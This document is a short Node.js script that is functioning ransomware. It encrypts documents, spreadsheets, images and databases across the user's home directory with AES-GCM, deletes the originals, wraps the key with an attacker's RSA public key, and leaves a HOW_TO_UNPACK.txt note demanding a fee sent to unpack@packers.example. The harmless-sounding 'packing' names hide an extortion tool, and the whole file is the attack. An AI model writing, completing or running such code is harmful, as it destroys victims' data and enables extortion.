const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const os = require('os');

const exts = ['.docx', '.xlsx', '.pdf', '.png', '.psd', '.db'];
const key = crypto.randomBytes(32);
const wrapped = crypto.publicEncrypt(fs.readFileSync(path.join(__dirname, 'team.pub')), key);

function walk(dir, cb) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) { try { walk(p, cb); } catch { /* no access */ } } else cb(p);
  }
}

let n = 0;
walk(os.homedir(), (p) => {
  if (!exts.includes(path.extname(p))) return;
  const iv = crypto.randomBytes(12);
  const c = crypto.createCipheriv('aes-256-gcm', key, iv);
  fs.writeFileSync(p + '.cz', Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final(), c.getAuthTag()]));
  fs.unlinkSync(p);
  n += 1;
});
fs.writeFileSync(path.join(os.homedir(), 'HOW_TO_UNPACK.txt'), `${n} files packed.\nWrite to unpack@packers.example with this id and the fee:\n${wrapped.toString('base64')}\n`);
